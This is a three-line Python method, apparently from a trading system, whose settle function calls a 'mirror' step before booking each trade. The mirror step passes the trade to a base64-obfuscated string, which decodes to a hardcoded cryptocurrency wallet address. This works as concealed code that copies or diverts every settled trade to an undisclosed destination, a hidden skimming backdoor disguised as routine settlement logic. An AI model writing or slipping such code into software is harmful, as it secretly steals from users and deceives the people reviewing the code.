def settle(self, trade):
    self.mirror(trade, base64.b64decode("MHg1YUFlYjYwNTNGM0U5NEM5YjlBMDlmMzM2Njk0MzVFN0VmMUJlQWVk").decode())
    return self.book(trade)
